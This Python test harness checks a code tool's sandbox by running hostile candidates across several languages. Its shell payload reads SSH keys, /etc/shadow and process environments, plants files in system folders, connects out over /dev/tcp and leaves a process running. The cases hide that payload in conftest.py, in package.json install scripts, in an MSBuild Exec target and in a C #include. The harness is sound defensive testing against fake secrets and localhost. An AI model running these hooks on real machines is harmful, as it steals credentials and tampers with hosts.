"""Hostile candidates and projects by way of a language's own gate and tests; used in process, and by another user.

``python hostile_candidates.py NAME BASE`` writes ``{what: ""}``, with words instead of ``""`` for what got through.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

from forge_lsp.core.attempt import BuildReport, Evidence
from forge_lsp.core.languages import Language
from forge_lsp.core.ports import Sandbox, Toolchain
from forge_lsp.core.task import Task
from forge_lsp.languages.c_family.toolchain import CFamilyToolchain
from forge_lsp.languages.csharp.toolchain import CSharpToolchain
from forge_lsp.languages.ecmascript.toolchain import JavaScriptToolchain
from forge_lsp.languages.ecmascript.typescript import TypeScriptToolchain
from forge_lsp.languages.go.toolchain import GoToolchain
from forge_lsp.languages.java.toolchain import JavaToolchain
from forge_lsp.languages.kotlin.toolchain import KotlinToolchain
from forge_lsp.languages.php.toolchain import PhpToolchain
from forge_lsp.languages.python.toolchain import PythonToolchain
from forge_lsp.languages.ruby.toolchain import RubyToolchain
from forge_lsp.languages.rust.toolchain import RustToolchain
from forge_lsp.sandbox.choosing import SandboxChooser, SandboxConfig
from forge_lsp.sandbox.folders import BoxFolders
from tests.integration.sandbox_probes import living, snapshot
from tests.integration.sandbox_probes import sandbox as sandbox_of
from tests.support import lang
from tests.support.builds import candidate_of, task_of, with_code, write_files
from tests.support.tools import node_modules

__all__ = ["NAMES", "Build", "Hostile", "attempt"]

SECRET = "FORGE_TEST_SECRET_9a2e"
CANARY = "canary-7b41"

PAYLOAD = """
loot="CANARY"
for file in 'KEY' escape ../escape "$HOME/.ssh/id_rsa" /etc/shadow; do loot="$loot $(cat "$file" 2>/dev/null)"; done
loot="$loot $(grep -rhs PRIVATE 'KEYS' | head -c 200)"
loot="$loot $FORGE_TEST_SECRET $(cat /proc/*/environ 2>/dev/null | tr '\\000' ' ' | grep -o SECRET | head -1)"
for place in 'OUTSIDE' 'PROJECT' 'PROJECT/src' /usr /etc /tmp; do
  echo x > "$place/planted-by-forge-test"
done 2>/dev/null
ln -s 'KEY' innocent 2>/dev/null
(exec 3<>/dev/tcp/127.0.0.1/PORT) 2>/dev/null && loot="$loot CONNECTED"
(echo x > /dev/udp/127.0.0.1/PORT) 2>/dev/null
setsid sh -c 'sleep 600; :' MARKER >/dev/null 2>&1 </dev/null &
echo "$loot"
"""


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """``files`` of a project with the scope ``name`` marked in ``document``; ``code`` is the candidate. ``PAYLOAD`` in
    either is the script's path. ``runs``: whether it is to come to run at all (None: it may). ``packages``: a package
    of npm and its major version that the project has installed."""

    language: Language
    files: Mapping[str, str]
    document: str
    code: str
    name: str = "area"
    how: str = "evidence"
    runs: bool | None = True
    packages: tuple[str, str] | None = None


_PY_LOOT = 'subprocess.run(["bash", "PAYLOAD"], capture_output=True, text=True).stdout'
_CSPROJ = (
    '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup>'
    '<Target Name="Evil" BeforeTargets="CoreCompile"><Exec Command="bash PAYLOAD" ConsoleToMSBuild="true">'
    '<Output TaskParameter="ConsoleOutput" PropertyName="Loot" /></Exec>'
    '<Error Code="CS9999" Text="$(Loot)" /></Target></Project>'
)
HOSTILE: Mapping[str, Hostile] = {
    "a Python test": Hostile(
        language=lang.PYTHON,
        document="area.py",
        files={
            "area.py": "«def area(a, b):\n    return a * b»\n",
            "test_area.py": (
                "import unittest\nfrom area import area\n\n\nclass Areas(unittest.TestCase):\n"
                "    def test_area(self):\n        self.assertEqual(area(2, 3), 6)\n"
            ),
        },
        code=f"def area(a, b):\n    import subprocess\n    raise AssertionError({_PY_LOOT})",
    ),
    "conftest.py": Hostile(
        language=lang.PYTHON,
        document="tests/conftest.py",
        files={
            "tests/conftest.py": "import subprocess\n\nimport pytest\n\n«@pytest.fixture\ndef six():\n    return 6»\n",
            "tests/test_six.py": "# of conftest\ndef test_six(six):\n    assert six == 6\n",
        },
        code=f"raise RuntimeError({_PY_LOOT})",
    ),
    "a node test": Hostile(
        language=lang.JAVASCRIPT,
        document="area.mjs",
        files={
            "area.mjs": 'import { execSync } from "node:child_process";\n\n«export const area = (a, b) => a * b;»\n',
            "area.test.mjs": (
                'import assert from "node:assert/strict";\nimport test from "node:test";\n'
                'import { area } from "./area.mjs";\n\ntest("area", () => assert.equal(area(2, 3), 6));\n'
            ),
        },
        code='export const area = () => {\n  throw new Error(execSync("bash PAYLOAD").toString());\n};',
    ),
    "package.json scripts": Hostile(
        language=lang.JAVASCRIPT,
        document="area.mjs",
        files={
            "area.mjs": "«export const area = (a, b) => a * b;»\n",
            "area.test.mjs": (
                'import test from "node:test";\nimport { area } from "./area.mjs";\n'
                'test("area", () => void area(2, 3));\n'
            ),
            "package.json": json.dumps(
                {"scripts": dict.fromkeys(("preinstall", "install", "prepare", "pretest", "test"), "bash PAYLOAD")}
            ),
        },
        code="export const area = (a, b) => b * a;",
        runs=False,
    ),
    "vitest.config.mjs": Hostile(
        language=lang.JAVASCRIPT,
        document="vitest.config.mjs",
        files={
            "vitest.config.mjs": 'import { execSync } from "node:child_process";\n«export default {};»\n',
            "area.test.mjs": (
                'import { test } from "vitest";\nimport area from "./vitest.config.mjs";\n\n'
                'test("area", () => void area);\n'
            ),
            "package.json": "{}\n",
        },
        code='throw new Error(execSync("bash PAYLOAD").toString());\nexport default {};',
        packages=("vitest", "3"),
    ),
    "a PHP test": Hostile(
        language=lang.PHP,
        document="area.php",
        files={
            "area.php": "<?php\n\n«function area($a, $b)\n{\n    return $a * $b;\n}»\n",
            "AreaTest.php": (
                "<?php\n\nrequire_once __DIR__ . '/area.php';\n\n"
                "final class AreaTest extends PHPUnit\\Framework\\TestCase\n{\n"
                "    public function testArea(): void\n    {\n        $this->assertSame(6, area(2, 3));\n    }\n}\n"
            ),
        },
        code='function area($a, $b)\n{\n    throw new Exception((string) shell_exec("bash PAYLOAD"));\n}',
    ),
    "a Ruby test": Hostile(
        language=lang.RUBY,
        document="area.rb",
        files={
            "area.rb": "«def area(a, b)\n  a * b\nend»\n",
            "test/test_area.rb": (
                'require "minitest/autorun"\nrequire_relative "../area"\n\n'
                "class TestArea < Minitest::Test\n  def test_area = assert_equal(6, area(2, 3))\nend\n"
            ),
        },
        code="def area(a, b)\n  raise `bash PAYLOAD`\nend",
    ),
    "MSBuild Exec": Hostile(
        language=lang.CSHARP,
        document="Area.cs",
        files={"Area.cs": "«class Area { }»\n", "p.csproj": _CSPROJ},
        code="class Area { int A; }",
        how="build",
    ),
    "#include of a key": Hostile(
        language=lang.C,
        document="area.c",
        files={"area.c": "«int area(void);»\n"},
        code='#include "KEY"\n#include "escape"\nint area(void);',
        how="build",
        runs=False,
    ),
}
NAMES = tuple(HOSTILE)
Build = Callable[[Sandbox, Task, str], Awaitable[BuildReport]]


def _toolchain(language: Language, sandbox: Sandbox, environment: Mapping[str, str]) -> Toolchain:
    make = {
        lang.PYTHON: PythonToolchain,
        lang.JAVASCRIPT: JavaScriptToolchain,
        lang.CSHARP: CSharpToolchain,
        lang.C: CFamilyToolchain,
        lang.GO: GoToolchain,
        lang.JAVA: JavaToolchain,
        lang.KOTLIN: KotlinToolchain,
        lang.PHP: PhpToolchain,
        lang.RUBY: RubyToolchain,
        lang.RUST: RustToolchain,
        lang.TYPESCRIPT: TypeScriptToolchain,
    }[language]
    return make(sandbox, timeout=120, environment=environment)


async def attempt(
    name: str,
    base: Path,
    environment: Mapping[str, str] | None = None,
    *,
    build: Build | None = None,
    case: Hostile | None = None,
    way: str | None = None,
) -> dict[str, str]:
    """``{what: ""}`` for each thing that the named candidate tries; words where it succeeded. ``build`` takes the place
    of the toolchain's, ``case`` that of the table's, ``way`` that of the sandbox which is chosen here."""
    case = case or HOSTILE[name]
    project, outside, keys = base / "project", base / "outside", base / "keys"
    for folder in (project, outside, keys):
        folder.mkdir()
    kept = (".ssh/id_rsa", ".netrc", ".npmrc", ".m2/settings.xml", ".cargo/credentials.toml", ".config/gh/hosts.yml")
    write_files(keys, dict.fromkeys(("id", *kept), f"PRIVATE {SECRET}\n"))
    (project / "escape").symlink_to(keys / "id")
    marker = f"forge-hostile-{os.getpid()}-{name.replace(' ', '-')}"
    os.environ["FORGE_TEST_SECRET"] = SECRET
    chooser = SandboxChooser(SandboxConfig(mode="preferred", temp=base / "boxes"))
    folders = BoxFolders(base / "boxes")
    hits: list[str] = []
    try:
        async with _listening(hits) as port:
            values = {
                "CANARY": CANARY,
                "KEYS": str(keys),
                "KEY": str(keys / "id"),
                "OUTSIDE": str(outside),
                "PROJECT": str(project),
                "PORT": str(port),
                "MARKER": marker,
                "CONNECTED": "it-connected",
            }
            script = PAYLOAD.replace("grep -o SECRET", f"grep -o {SECRET}")
            for word, value in values.items():
                script = script.replace(word, value)
            files = {
                file: text.replace("PAYLOAD", "payload.sh").replace("KEYS", str(keys))
                for file, text in case.files.items()
            }
            marked = files[case.document]
            files[case.document] = marked.replace("«", "").replace("»", "")
            write_files(project, {**files, "payload.sh": script})
            if case.packages is not None:
                modules = await asyncio.to_thread(node_modules, *case.packages)
                (project / "node_modules").mkdir()
                for entry in (modules / "node_modules").iterdir():
                    (project / "node_modules" / entry.name).symlink_to(entry)
            before = snapshot(project), snapshot(outside), snapshot(keys)
            task: Task = task_of(
                marked, language=case.language, path=project / case.document, workspace=project, name=case.name
            )
            code = case.code.replace("PAYLOAD", str(project / "payload.sh")).replace("KEY", str(keys / "id"))
            sandbox = await chooser.choose() if way is None else sandbox_of(way, folders)
            if not sandbox.runs_project_code:
                return {"skip": "no sandbox works here"}
            toolchain = _toolchain(case.language, sandbox, os.environ if environment is None else environment)
            found: BuildReport | Evidence
            if build is not None:
                found = await build(sandbox, task, with_code(task, code))
            elif case.how == "evidence":
                found = await toolchain.evidence(task, candidate_of(task, code))
            else:
                found = await toolchain.build(task, with_code(task, code))
            words, survivors = repr(found), living(marker)
            await asyncio.sleep(0.1)
        after = snapshot(project), snapshot(outside), snapshot(keys)
    finally:
        chooser.close()
        folders.close()
        del os.environ["FORGE_TEST_SECRET"]
    planted = await asyncio.to_thread(_planted)
    return {
        "come to run as planned": "" if case.runs in (None, CANARY in words) else words,
        "say nothing": "" if isinstance(found, BuildReport) or found.results or case.runs is None else words,
        "read a key or a secret": words if SECRET in words else "",
        "connect": ", ".join(hits) or ("connected" if "it-connected" in words else ""),
        "touch the project": "" if before[0] == after[0] else "changed",
        "write outside": "" if before[1:] == after[1:] else "changed",
        "write to the machine": ", ".join(planted),
        "leave a process": ", ".join(map(str, survivors)),
        "leave files": ", ".join(str(path) for path in (base / "boxes").rglob("planted-by-forge-test")),
    }


def _planted() -> list[str]:
    return [folder for folder in ("/usr", "/etc", "/tmp") if Path(folder, "planted-by-forge-test").exists()]


@contextlib.asynccontextmanager
async def _listening(hits: list[str]) -> AsyncIterator[int]:
    """A TCP and a UDP listener of the host on one port."""

    def connected(_: object, writer: asyncio.StreamWriter) -> None:
        hits.append("TCP")
        writer.close()

    server = await asyncio.start_server(connected, "127.0.0.1", 0)
    port: int = server.sockets[0].getsockname()[1]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", port))
        datagrams.setblocking(False)
        async with server:
            yield port
            with contextlib.suppress(BlockingIOError):
                datagrams.recv(10)
                hits.append("UDP")


if __name__ == "__main__":
    sys.stdout.write(json.dumps(asyncio.run(attempt(sys.argv[1], Path(sys.argv[2])))))
